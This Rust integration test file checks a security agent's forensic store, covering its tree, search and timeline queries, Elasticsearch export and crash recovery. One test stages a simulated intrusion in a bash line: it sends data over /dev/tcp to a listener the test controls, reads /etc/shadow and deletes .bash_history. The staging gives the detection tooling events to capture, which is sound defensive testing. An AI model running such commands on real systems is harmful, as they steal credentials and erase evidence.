//! The forensic store on the host kernel: an incident reconstructed from what the agent kept
//! (`vigil tree`, `vigil search`, `vigil timeline`, the same through Python's gRPC client and
//! from the database file, and across the fleet: the same queries against the Elasticsearch
//! test server holding the same events), and a `kill -9` of the agent while it stores a flood.

#[path = "../../exporters/tests/support/elastic.rs"]
#[allow(dead_code)]
mod elastic;
#[path = "../../exporters/tests/support/http.rs"]
#[allow(dead_code)]
mod http;

use std::{
    io::Read,
    net::{Ipv4Addr, TcpListener},
    path::Path,
    process::{Command, Output},
    time::{Duration, Instant},
};

use serde_json::{json, Value};
use vigil_tests::{
    api_client::python, netns::NetNs, require_root, rules_dir, vigil_bin, Agent, TempDir,
};

/// The listener's address, on the loopback device of a namespace the test creates.
const LISTENER: Ipv4Addr = Ipv4Addr::new(10, 213, 7, 2);
const PORT: u16 = 8080;

/// Writes under `work` and removals of shell histories, as the incident's policy.
fn incident_policy(dir: &Path, work: &Path) -> std::path::PathBuf {
    let path = dir.join("incident.yaml");
    let prefix = format!("{}/", work.display());
    std::fs::write(
        &path,
        format!(
            r#"apiVersion: cilium.io/v1alpha1
kind: TracingPolicy
metadata:
  name: incident-files
spec:
  kprobes:
  - call: sys_openat
    syscall: true
    args:
    - index: 1
      type: path
    - index: 2
      type: int
    selectors:
    - matchArgs:
      - index: 2
        operator: Mask
        values: ["579"]
      - index: 1
        operator: Prefix
        values: ["{prefix}"]
  - call: sys_unlinkat
    syscall: true
    args:
    - index: 1
      type: path
    selectors:
    - matchArgs:
      - index: 1
        operator: Postfix
        values: [".bash_history"]
"#
        ),
    )
    .unwrap();
    path
}

fn vigil(args: &[&str]) -> Output {
    Command::new(vigil_bin()).args(args).output().unwrap()
}

fn lines_of(out: &Output) -> Vec<Value> {
    assert!(
        out.status.success(),
        "vigil failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// `vigil search ... -o json` through the agent's API, retried until it finds `want` events
/// (the store commits a few times a second).
fn search(server: &str, args: &[&str], want: usize) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let mut all = vec!["search", "--server", server, "-o", "json"];
        all.extend_from_slice(args);
        let got = lines_of(&vigil(&all));
        if got.len() >= want || Instant::now() > deadline {
            return got;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn body(e: &Value) -> &Value {
    e.as_object()
        .unwrap()
        .iter()
        .find(|(k, _)| k.starts_with("process_"))
        .map(|(_, v)| v)
        .unwrap()
}

#[test]
fn an_incident_is_reconstructed_from_the_store_by_tree_search_timeline_and_the_api() {
    require_root();
    let work = TempDir::new("incident");
    let home = work.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let history = home.join(".bash_history");
    std::fs::write(&history, "ls\n").unwrap();
    let policies = rules_dir();
    let agent = Agent::start(&[
        "--policy",
        policies
            .join("observe-tcp-connections.yaml")
            .to_str()
            .unwrap(),
        "--policy",
        policies.join("observe-secret-reads.yaml").to_str().unwrap(),
        "--policy",
        incident_policy(work.path(), work.path()).to_str().unwrap(),
    ]);
    let server = format!("unix://{}", agent.socket.display());

    // The listener, in a namespace of the test's own; the shell runs in it too.
    let ns = NetNs::create(LISTENER);
    let listener = ns.run_inside(|| TcpListener::bind((LISTENER, PORT)).unwrap());
    let received = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        let mut got = String::new();
        let _ = s.read_to_string(&mut got);
        got
    });
    let loot = work.path().join("loot.txt");
    // The shell's child connects out, writes a file, reads the password hashes (the same
    // process: bash's own redirections); then the shell removes its history.
    let script = format!(
        "bash -c 'exec 3<>/dev/tcp/{LISTENER}/{PORT}; echo stolen >&3; exec 3>&-; echo loot > {loot}; exec 4</etc/shadow'; rm -f {history}; exit 0",
        loot = loot.display(),
        history = history.display()
    );
    let shell_pid = ns.run_inside(move || {
        let mut child = Command::new("/bin/bash")
            .args(["--norc", "-c", &script])
            .spawn()
            .unwrap();
        let pid = child.id();
        assert!(child.wait().unwrap().success());
        pid
    });
    assert_eq!(received.join().unwrap().trim(), "stolen");
    assert!(!history.exists());

    // The shell, found by what it ran.
    let execs = search(
        &server,
        &["--type", "exec", "--args", &loot.display().to_string()],
        2,
    );
    let shell = execs
        .iter()
        .find(|e| body(e)["process"]["pid"] == json!(shell_pid))
        .unwrap_or_else(|| panic!("no exec of the shell {shell_pid} in {execs:#?}"));
    let shell_id = body(shell)["process"]["exec_id"]
        .as_str()
        .unwrap()
        .to_string();

    // The read of the credential file, and the connect, by the shell's child.
    let reads = search(&server, &["--path", "/etc/shadow", "--since", "5m"], 1);
    let reader = reads
        .iter()
        .find(|e| body(e)["parent"]["exec_id"] == json!(shell_id))
        .unwrap_or_else(|| panic!("no read of /etc/shadow under the shell in {reads:#?}"));
    let child_id = body(reader)["process"]["exec_id"]
        .as_str()
        .unwrap()
        .to_string();
    let dst = format!("{LISTENER}/32");
    let connects = search(&server, &["--dst", &dst], 1);
    assert!(
        connects
            .iter()
            .any(|e| body(e)["process"]["exec_id"] == json!(child_id)),
        "no connect to {dst} by the shell's child in {connects:#?}"
    );
    // The connect, the listener's accept (its return value) and both closes: each with the
    // listener's address.
    let addr = format!("\"{LISTENER}\"");
    assert!(
        connects.iter().all(|e| body(e).to_string().contains(&addr)),
        "{connects:#?}"
    );

    // Everything under the shell: its child's connect, write and read, and rm's unlink.
    let deadline = Instant::now() + Duration::from_secs(20);
    let tree = loop {
        let tree = lines_of(&vigil(&[
            "tree", &shell_id, "--server", &server, "-o", "json",
        ]));
        let unlinked = tree.iter().any(|n| {
            n["events"].as_array().unwrap().iter().any(|e| {
                e.to_string().contains(".bash_history") && e.get("process_kprobe").is_some()
            })
        });
        if unlinked || Instant::now() > deadline {
            break tree;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let root = tree.iter().position(|n| n["depth"] == json!(0)).unwrap();
    assert_eq!(tree[root]["process"]["exec_id"], json!(shell_id));
    let below: String = tree[root + 1..]
        .iter()
        .filter(|n| n["depth"].as_i64().unwrap() > 0)
        .map(|n| n.to_string())
        .collect();
    for needle in [
        format!("\"{LISTENER}\""),
        loot.display().to_string(),
        "/etc/shadow".to_string(),
        history.display().to_string(),
        "\"/usr/bin/rm\"".to_string(),
    ] {
        assert!(
            below.contains(&needle),
            "the tree has no {needle} under the shell:\n{tree:#?}"
        );
    }
    let drawn = vigil(&["tree", &shell_id, "--server", &server]);
    let text = String::from_utf8_lossy(&drawn.stdout);
    let shell_line = text.lines().position(|l| l.contains("◀")).unwrap();
    for needle in ["/etc/shadow", "loot.txt", ".bash_history", "rm"] {
        assert!(
            text.lines()
                .skip(shell_line + 1)
                .any(|l| l.contains(needle)),
            "the drawn tree has no {needle} below the shell:\n{text}"
        );
    }

    // The timeline of the subtree is in time order and holds the same events.
    let timeline = lines_of(&vigil(&[
        "timeline", &shell_id, "--server", &server, "-o", "json",
    ]));
    let times: Vec<&str> = timeline
        .iter()
        .map(|e| e["time"].as_str().unwrap())
        .collect();
    let mut sorted = times.clone();
    sorted.sort();
    assert_eq!(times, sorted);
    let events_in_tree: usize = tree
        .iter()
        .filter(|n| n["depth"].as_i64().unwrap() >= 0)
        .map(|n| n["events"].as_array().unwrap().len())
        .sum();
    assert_eq!(timeline.len(), events_in_tree);

    // The same answers through Python's gRPC client and from the database file.
    let (py, _) = python(&[
        &server,
        "search",
        &json!({"path": {"how": "EXACT", "text": "/etc/shadow"}, "fromNs": reads_from(&reads)})
            .to_string(),
    ]);
    let by_cli = search(
        &server,
        &[
            "--path",
            "/etc/shadow",
            "--from",
            &reads_from(&reads).to_string(),
        ],
        1,
    );
    assert_eq!(py, json!(by_cli));
    let (py, _) = python(&[&server, "search", &json!({"dst": dst}).to_string()]);
    assert_eq!(py, json!(connects));
    let (py_tree, _) = python(&[&server, "tree", &shell_id]);
    let py_shape: Vec<(Value, Value, usize)> = py_tree
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            (
                n["exec_id"].clone(),
                n["depth"].clone(),
                n["events"].as_array().unwrap().len(),
            )
        })
        .collect();
    let cli_shape: Vec<(Value, Value, usize)> = tree
        .iter()
        .map(|n| {
            (
                n["process"]["exec_id"].clone(),
                n["depth"].clone(),
                n["events"].as_array().unwrap().len(),
            )
        })
        .collect();
    assert_eq!(py_shape, cli_shape);
    let db = agent.store_db.display().to_string();
    let from_file = lines_of(&vigil(&[
        "search", "--store", &db, "-o", "json", "--dst", &dst,
    ]));
    assert_eq!(from_file, connects);
    let run = agent.stop();
    assert!(
        run.stats["store"]["committed"].as_u64().unwrap() > 0,
        "{}",
        run.stats
    );

    // The fleet's copy: the same events through the real Elasticsearch sink, and the same
    // queries as DSL, which the test server checks as a strict cluster would.
    let events: Vec<vigil_events::Event> = run
        .events
        .iter()
        .filter(|e| e.get("process_alert").is_none())
        .map(|e| serde_json::from_value(e.clone()).unwrap())
        .collect();
    let server = elastic::ElasticServer::start("k3y");
    let key = work.path().join("es-key");
    std::fs::write(&key, "k3y").unwrap();
    let cfg: vigil_exporters::sinks::elastic::ElasticConfig = serde_yaml::from_str(&format!(
        "endpoint: {}\napi_key: !file {}\nallow_plaintext: true\n",
        server.endpoint(),
        key.display()
    ))
    .unwrap();
    let mut sink = vigil_exporters::sinks::elastic::ElasticSink::new(cfg).unwrap();
    let records: Vec<vigil_exporters::record::Record> = events
        .iter()
        .map(vigil_exporters::record::Record::encode)
        .collect();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    for batch in records.chunks(500) {
        assert!(matches!(
            runtime.block_on(sink.deliver(batch)),
            vigil_exporters::sinks::Delivery::Delivered
        ));
    }
    let fleet = |args: &[&str]| -> Vec<Value> {
        let endpoint = server.endpoint();
        let key = key.display().to_string();
        let mut all = vec![
            "search",
            "--elasticsearch",
            &endpoint,
            "--es-api-key-file",
            &key,
            "-o",
            "json",
        ];
        all.extend_from_slice(args);
        lines_of(&vigil(&all))
    };
    let ids = |docs: &[Value], at: &str| -> Vec<String> {
        docs.iter()
            .map(|d| {
                at.split('.')
                    .fold(d, |v, k| &v[k])
                    .as_str()
                    .unwrap_or_default()
                    .to_string()
            })
            .collect()
    };
    let bodies =
        |events: &[Value]| -> Vec<Value> { events.iter().map(|e| body(e).clone()).collect() };
    // The same events; the order of events within one millisecond may differ (the index maps
    // @timestamp at milliseconds).
    let sorted = |mut v: Vec<String>| {
        v.sort();
        v
    };
    let fleet_reads = fleet(&["--path", "/etc/shadow", "--since", "5m"]);
    assert!(!fleet_reads.is_empty());
    assert_eq!(
        sorted(ids(&fleet_reads, "process.entity_id")),
        sorted(ids(&bodies(&reads), "process.exec_id")),
        "the fleet's answer is the node's"
    );
    let fleet_connects = fleet(&["--dst", &dst]);
    assert_eq!(
        sorted(ids(&fleet_connects, "process.entity_id")),
        sorted(ids(&bodies(&connects), "process.exec_id"))
    );
    let searches = server.searches();
    assert_eq!(searches.len(), 2, "{searches:#?}");
    assert!(
        searches[0].1.to_string().contains("/etc/shadow"),
        "{searches:#?}"
    );
    assert!(searches[1].1.to_string().contains(&dst), "{searches:#?}");
}

/// The earliest time of `events`, as nanoseconds.
fn reads_from(events: &[Value]) -> u64 {
    events
        .iter()
        .filter_map(|e| vigil_events::time::parse_rfc3339_ns(e["time"].as_str()?))
        .min()
        .unwrap()
}

#[test]
fn a_killed_agent_leaves_a_store_that_opens_again_with_every_committed_event_and_says_what_it_lost()
{
    require_root();
    let state = TempDir::new("store-kill");
    let state_dir = state.path().join("state");
    let state_arg = state_dir.display().to_string();
    let agent = Agent::start(&["--state-dir", &state_arg, "--no-api-socket"]);
    // A flood of executions, and the agent killed while it stores them.
    let flood = std::thread::spawn(|| {
        let until = Instant::now() + Duration::from_secs(3);
        let mut n = 0;
        while Instant::now() < until {
            let _ = Command::new("/bin/true").status();
            n += 1;
        }
        n
    });
    std::thread::sleep(Duration::from_millis(2000));
    agent.kill();
    let execs = flood.join().unwrap();
    assert!(execs > 50, "only {execs} executions");
    let db = state_dir.join("store/events.db");
    let count = |db: &Path| -> u64 {
        let out = vigil(&["search", "--store", db.to_str().unwrap(), "--count"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
    };
    let kept = count(&db);
    assert!(kept > 0, "nothing was committed before the kill");
    // The next agent opens the same store and says how many events the killed one lost.
    let agent = Agent::start(&["--state-dir", &state_arg, "--no-api-socket"]);
    let log = agent.log_lines().join("\n");
    let run = agent.stop();
    let recovery = &run.stats["store"]["recovery"];
    assert_eq!(recovery["clean"], json!(false), "{}", run.stats);
    assert_eq!(
        recovery["committed"].as_u64().unwrap(),
        kept,
        "the killed run's committed count is what the file holds: {}",
        run.stats
    );
    let lost = recovery["lost"].as_u64().unwrap();
    if lost > 0 {
        assert!(
            log.contains(&format!(
                "{lost} of the events it took were never committed"
            )),
            "{log}"
        );
    } else {
        assert!(log.contains("every event it took was committed"), "{log}");
    }
    assert_eq!(
        recovery["offered"].as_u64().unwrap(),
        kept + lost + recovery["shed"].as_u64().unwrap()
    );
    // Everything committed before the kill is still there after the second run.
    assert!(count(&db) >= kept);
}
